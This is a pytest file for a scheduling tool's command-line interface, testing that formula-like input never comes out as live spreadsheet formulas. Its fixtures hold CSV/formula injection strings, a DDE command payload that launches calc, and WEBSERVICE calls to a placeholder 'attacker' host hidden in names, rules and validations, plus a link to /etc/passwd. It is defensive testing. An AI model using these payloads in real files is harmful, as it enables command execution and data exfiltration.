"""No text from the input becomes a formula in anything the tool writes.

A program whose ids, names, zone names, skills and neighborhoods look like
formulas goes through solve, check, repair, publish, demand, simulate and plan
(with formula-like scenario names and hire ids); every
workbook written is read back with openpyxl (no formula cell at all: the tool
writes none of its own) and every CSV has no field that starts a formula
without the `'` escape.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from typer.testing import CliRunner

from scheduler.cli import app
from scheduler.curtois.format import read_curtois, read_solution, write_solution
from scheduler.io.read_workbook import read_problem, read_roster
from scheduler.io.safe_cells import (
    FORMULA_PREFIXES,
    csv_row,
    csv_text,
    unescape_csv_text,
    write_cell,
)

DATA = Path(__file__).parent / "data"
runner = CliRunner()

#: Text that a spreadsheet would run as a formula if written as it is.
HOSTILE = ('=HYPERLINK("http://x","y")', "+1+2", "-3", "@SUM(A1)", "\tX", "\rX")
#: The small program's ids, renamed to look like formulas (every sheet naming them).
HOSTILE_IDS = {"C1": "=C1", "P1": "+P1", "C2": "-C2", "P2": "@P2", "N": "=N", "S": "@S"}
#: Formula cells the tool writes on purpose (none): a formula cell is a failure.
INTENDED_FORMULAS: dict[str, set[str]] = {}


def _hostile_program(target: Path) -> Path:
    """tests/data/valid/small with formula-like ids, names, skills, zone names."""
    shutil.copytree(DATA / "valid" / "small", target)
    for file in target.glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as handle:
            header, *rows = list(csv.reader(handle))
        rows = [[HOSTILE_IDS.get(cell, cell) for cell in row] for row in rows]
        if file.stem == "Staff":
            for i, row in enumerate(rows):
                row[header.index("name")] = HOSTILE[i % len(HOSTILE)]
                row[header.index("skills")] = HOSTILE[(i + 1) % len(HOSTILE)]
        if file.stem == "Zones":
            rows[0][header.index("name")] = HOSTILE[0]
            rows[1][header.index("name")] = HOSTILE[3]
            rows[0][header.index("neighborhoods")] = "+Blue Hills;-Upper Albany"
        if file.stem == "Program":
            rows[[row[0] for row in rows].index("name")][1] = HOSTILE[0]
        with file.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows([header, *rows])
    return target


def _calls(path: Path) -> Path:
    """A call log inside the program's week, in both (hostile) zones."""
    rows = [("received_at", "zone", "team", "busy_minutes")]
    for day in range(7):
        for hour in (9, 11, 14, 17, 20):
            for zone in ("=N", "@S"):
                moment = dt.datetime(2026, 3, 2 + day, hour, 10 if zone == "=N" else 40)
                rows.append((f"{moment:%Y-%m-%dT%H:%M}", zone, "adult", "60"))
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def _formula_cells(path: Path) -> Iterator[str]:
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and cell.coordinate not in INTENDED_FORMULAS.get(
                    sheet.title, set()
                ):
                    yield f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}"


def _text_values(path: Path) -> set[str]:
    workbook = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def _ok(args: list[str], codes: tuple[int, ...] = (0,)) -> str:
    result = runner.invoke(app, args)
    assert result.exit_code in codes, (args, result.output)
    return result.output


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path]]:
    """Every command that writes a workbook, run once on the hostile program."""
    folder = tmp_path_factory.mktemp("hostile")
    program = _hostile_program(folder / "program")
    calls = _calls(folder / "calls.csv")
    roster = folder / "roster.xlsx"
    _ok(["solve", str(program), "-o", str(roster), "--time-limit", "5", "-q"])
    hr_report = folder / "hr.xlsx"
    _ok(["check", str(roster), "--inputs", str(program), "--out", str(hr_report)], (0, 1))
    pinned = {(pin.employee_id, pin.date) for pin in read_problem(program).pins}
    worker = next(
        a for a in read_roster(roster).assignments if (a.employee_id, a.date) not in pinned
    )
    repaired = folder / "repaired.xlsx"
    call_out = f"{worker.employee_id}:{worker.date.isoformat()}"
    _ok(["repair", str(roster), "-i", str(program), "-u", call_out, "-o", str(repaired), "-q"])
    published = folder / "published"
    _ok(["publish", str(roster), "-i", str(program), "--out", str(published)])
    demand = folder / "demand.xlsx"
    _ok(["demand", "--inputs", str(program), "--calls", str(calls), "--out", str(demand)])
    # The demand workbook is itself an input: its hostile text must survive as text.
    demand_again = folder / "demand_again.xlsx"
    _ok(["demand", "--inputs", str(demand), "--calls", str(calls), "--out", str(demand_again)])
    simulation = folder / "simulation.xlsx"
    args = ["simulate", str(roster), "-i", str(program), "--calls", str(calls)]
    _ok([*args, "--replications", "2", "--out", str(simulation)])
    # A scenario named like a formula, and candidate hires with formula-like ids.
    scenarios = folder / "scenarios.csv"
    scenarios.write_text(
        'scenario,change,team,factor\n"=HYPERLINK(""http://x"",""y"")",scale_demand,adult,2\n',
        encoding="utf-8",
    )
    hiring = folder / "Hiring.csv"
    hiring.write_text(
        "hire_id,role,teams,home_zone,max_hours_per_week,annual_cost,max_count\n"
        "=PEER,peer,adult,=N,40,50000,1\n+CLIN,clinician,adult,=N,40,90000,1\n",
        encoding="utf-8",
    )
    plan = folder / "plan.xlsx"
    plan_args = ["plan", str(program), "--scenarios", str(scenarios), "--hiring", str(hiring)]
    _ok([*plan_args, "--time-limit", "3", "--calls", str(calls), "-q", "--out", str(plan)])
    plan_rosters = sorted((folder / "plan_rosters").glob("*.xlsx"))
    assert len(plan_rosters) == 2
    workbooks = [roster, hr_report, repaired, published / "schedules.xlsx", demand, demand_again]
    return program, [*workbooks, simulation, plan, *plan_rosters]


def test_no_workbook_written_from_hostile_input_holds_a_formula(
    written: tuple[Path, list[Path]],
) -> None:
    _, workbooks = written
    found = [cell for path in workbooks for cell in _formula_cells(path)]
    assert found == []


def test_formula_like_text_comes_back_as_the_same_text(written: tuple[Path, list[Path]]) -> None:
    # Names in the roster and schedules, ids and zones in every roster, zone names in
    # the copied input: each exactly as typed, as text.
    program, workbooks = written
    roster, hr_report, repaired, schedules, demand, demand_again, _, plan, *plan_rosters = workbooks
    names = {person.name for person in read_problem(program).staff}
    assert {'=HYPERLINK("http://x","y")', "+1+2", "-3", "@SUM(A1)"} <= names
    for path in (roster, hr_report, repaired):
        assert {"=C1", "+P1"} & _text_values(path), path.name
    # Schedules: one page per person, titled "name (id)".
    assert "+1+2 (-C2)" in _text_values(schedules)
    assert names & _text_values(roster) == names  # Roster sheet: every name
    for path in (demand, demand_again):
        texts = _text_values(path)
        assert {'=HYPERLINK("http://x","y")', "@SUM(A1)", "=N", "@S", "-C2"} <= texts
    # The demand workbook reads back as the same program (nothing turned into numbers).
    assert read_problem(demand_again).staff == read_problem(program).staff
    # The plan: the scenario's name, the hire kinds and the candidates' ids in rosters.
    assert {'=HYPERLINK("http://x","y")', "=PEER", "+CLIN"} <= _text_values(plan)
    hired_ids = set().union(*(_text_values(path) for path in plan_rosters))
    assert {"=PEER#1", "+CLIN#1"} & hired_ids


def test_a_formula_like_cell_is_text_marked_with_the_quote_prefix(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    for column, text in enumerate((*HOSTILE, "plain"), start=1):
        write_cell(sheet, 1, column, text)
    write_cell(sheet, 2, 1, -3)  # a number stays a number
    path = tmp_path / "cells.xlsx"
    workbook.save(path)

    cells = openpyxl.load_workbook(path).active
    written_back = [cells.cell(row=1, column=c) for c in range(1, len(HOSTILE) + 2)]
    # XML reads a CR back as a line feed (end-of-line normalisation): still text.
    assert [c.value for c in written_back] == [*(t.replace("\r", "\n") for t in HOSTILE), "plain"]
    assert {c.data_type for c in written_back} == {"s"}
    # Quote prefix on the formula-like ones only: Excel keeps them text when edited.
    assert [c.quotePrefix for c in written_back] == [True] * len(HOSTILE) + [False]
    assert (cells.cell(row=2, column=1).value, cells.cell(row=2, column=1).data_type) == (-3, "n")


def test_csv_text_escapes_what_could_start_a_formula_and_reads_back_the_same() -> None:
    assert csv_row([*HOSTILE, "plain", -3, 2.5, None, "'quoted"]) == [
        *(f"'{text}" for text in HOSTILE),
        "plain",
        -3,  # numbers are not text: no escape
        2.5,
        None,
        "'quoted",  # a leading ' before ordinary text is left alone
    ]
    assert csv_text("'=1") == "''=1"  # text that really starts with ' and =
    for text in (*HOSTILE, "plain", "'quoted", "'=1", "''-2", "'"):
        escaped = csv_text(text)
        assert isinstance(escaped, str)
        assert unescape_csv_text(escaped) == text


def _unescaped_formula_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [
            field
            for row in csv.reader(handle)
            for field in row
            if field.startswith(FORMULA_PREFIXES)
        ]


def test_the_curtois_solution_csv_escapes_ids_and_reads_back_the_same(tmp_path: Path) -> None:
    # An instance whose employee and shift ids look like formulas: the solution file
    # escapes them, and read_solution gives the same rows back.
    instance_text = (DATA / "curtois" / "tiny.txt").read_text(encoding="utf-8")
    hostile = re.sub(r"\bL\b", "@L", re.sub(r"^A,", "=A,", instance_text, flags=re.M))
    instance_file = tmp_path / "hostile.txt"
    instance_file.write_text(hostile, encoding="utf-8")
    instance = read_curtois(instance_file)
    assert "=A" in instance.staff_ids and "@L" in instance.shift_ids
    rows = [("=A", 0, "@L"), ("B", 1, "@L"), ("B", 2, "E")]
    path = tmp_path / "solution.csv"
    path.write_text("stale", encoding="utf-8")

    write_solution(path, rows)

    assert _unescaped_formula_fields(path) == []
    assert read_solution(path, instance) == rows
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary left


def test_demand_copies_values_not_formulas_from_an_input_workbook(tmp_path: Path) -> None:
    # An input workbook holding a real formula (typed into Excel): the demand
    # workbook, which copies the input's sheets, holds its value instead.
    program = tmp_path / "program.xlsx"
    _ok(["sample", str(DATA / "valid" / "small"), "--out", str(program)])
    book = openpyxl.load_workbook(program)
    book["Zones"]["B2"] = '=HYPERLINK("http://x","North")'
    book.save(program)
    _save_computed_value(program, "B2", "North")
    calls = tmp_path / "calls.csv"
    _calls(calls).write_text(
        calls.read_text(encoding="utf-8").replace("=N", "N").replace("@S", "S"), encoding="utf-8"
    )
    demand = tmp_path / "demand.xlsx"

    _ok(["demand", "--inputs", str(program), "--calls", str(calls), "--out", str(demand)])

    assert list(_formula_cells(program))  # the input does hold one
    assert list(_formula_cells(demand)) == []
    assert openpyxl.load_workbook(demand)["Zones"]["B2"].value == "North"


def _save_computed_value(path: Path, cell: str, value: str) -> None:
    """Store the text value Excel would have saved with the formula in `cell` (openpyxl
    saves a formula without one, which the reader refuses as not computed)."""
    formula = re.compile(rf'<c r="{cell}"([^>]*)><f>(.*?)</f><v ?/>'.encode())
    computed = rf'<c r="{cell}"\1 t="str"><f>\2</f><v>{value}</v>'.encode()
    rewritten = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(rewritten, "w") as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename.startswith("xl/worksheets/") and b"HYPERLINK" in data:
                data, count = formula.subn(computed, data)
                assert count == 1, entry.filename
            target.writestr(entry, data)
    rewritten.replace(path)


#: A text cell that Excel would run as a DDE command if it lost its text type.
DDE_TEXT = "=cmd|' /C calc'!A0"


def _hostile_input_workbook(path: Path) -> Path:
    """The small program as a workbook with formulas and links where no cell shows them."""
    _ok(["sample", str(DATA / "valid" / "small"), "--out", str(path)])
    book = openpyxl.load_workbook(path)
    book.defined_names["Leak"] = DefinedName("Leak", attr_text='WEBSERVICE("http://attacker/n")')
    staff = book["Staff"]
    staff.conditional_formatting.add(
        "A2:A10", FormulaRule(formula=['WEBSERVICE("http://attacker/cf")'], font=Font(b=True))
    )
    validation = DataValidation(type="custom", formula1='WEBSERVICE("http://attacker/dv")')
    validation.add("C2:C10")
    staff.add_data_validation(validation)
    book["Zones"]["B2"].hyperlink = "file:///etc/passwd"
    staff["B3"] = DDE_TEXT
    staff["B3"].data_type = "s"  # text, as another program could store it: no quote prefix
    book.save(path)
    return path


def test_demand_copies_no_formula_link_or_rule_from_an_input_workbook(tmp_path: Path) -> None:
    program = _hostile_input_workbook(tmp_path / "program.xlsx")
    given = openpyxl.load_workbook(program)
    assert given["Staff"]["B3"].value == DDE_TEXT and not given["Staff"]["B3"].quotePrefix
    calls = tmp_path / "calls.csv"
    _calls(calls).write_text(
        calls.read_text(encoding="utf-8").replace("=N", "N").replace("@S", "S"), encoding="utf-8"
    )
    demand = tmp_path / "demand.xlsx"

    _ok(["demand", "--inputs", str(program), "--calls", str(calls), "--out", str(demand)])

    book = openpyxl.load_workbook(demand)
    assert list(book.defined_names) == []
    for sheet in book.worksheets:
        assert list(sheet.defined_names) == [], sheet.title
        assert list(sheet.conditional_formatting) == [], sheet.title
        assert sheet.data_validations.dataValidation == [], sheet.title
        assert sheet._hyperlinks == [], sheet.title
        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.hyperlink] == []
    assert list(_formula_cells(demand)) == []
    name = book["Staff"]["B3"]
    assert (name.value, name.data_type, name.quotePrefix) == (DDE_TEXT, "s", True)
    # Nothing of the links is left anywhere in the file, and the values are the same.
    with zipfile.ZipFile(demand) as archive:
        parts = {entry: archive.read(entry) for entry in archive.namelist()}
    assert [entry for entry, data in parts.items() if b"attacker" in data] == []
    assert [entry for entry, data in parts.items() if b"etc/passwd" in data] == []
    assert book.sheetnames[: len(given.sheetnames)] == given.sheetnames
    written, read = read_problem(demand), read_problem(program)
    assert (written.staff, written.zones, written.shifts) == (read.staff, read.zones, read.shifts)
